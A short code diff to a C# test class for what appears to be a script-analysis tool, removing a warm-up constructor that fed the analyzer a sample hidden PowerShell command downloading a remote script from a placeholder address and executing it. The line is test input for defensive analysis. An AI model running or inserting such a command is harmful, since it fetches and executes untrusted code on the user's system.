@@ -14,13 +14,6 @@ public sealed class ReportCaseTests
 {
     private static readonly string Folder = Path.Combine(AppContext.BaseDirectory, "Reports");
 
-    // The analysis of a script is bounded by the clock, and its first one by the time that its code takes to be compiled.
-    static ReportCaseTests()
-    {
-        for (var i = 0; i < 2; i++)
-            Redoubt.Scripts.ScriptAnalyzer.Analyze("powershell.exe -w hidden -c \"iwr http://192.0.2.1/warm.ps1 | iex\"", new Redoubt.Scripts.ScriptHints(null));
-    }
-
     public static TheoryData<string> Cases => [.. Directory.GetFiles(Folder, "*.case").Select(path => Path.GetFileName(path)).Order(StringComparer.Ordinal)];
 
     [Theory]
